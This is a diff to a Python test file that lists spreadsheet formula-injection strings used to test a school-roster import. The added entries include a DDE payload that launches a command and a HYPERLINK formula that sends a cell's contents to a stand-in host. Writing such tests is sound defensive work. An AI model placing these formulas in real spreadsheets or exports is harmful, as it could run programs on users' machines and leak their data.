@@ -17,6 +17,8 @@ from tests.sheets.test_importing import book
 from tests.sheets.test_returning import returned
 
 RISKY = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠1"]
+# What opens a program, and what sends the neighbours' cells away.
+RISKY += ["=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1,"点我")', "=1+1\n+2", "'=1+1"]
 HEAD = ["县区", "学校名称", "学校类别", "办学性质", "校长", "备注"]
 
 
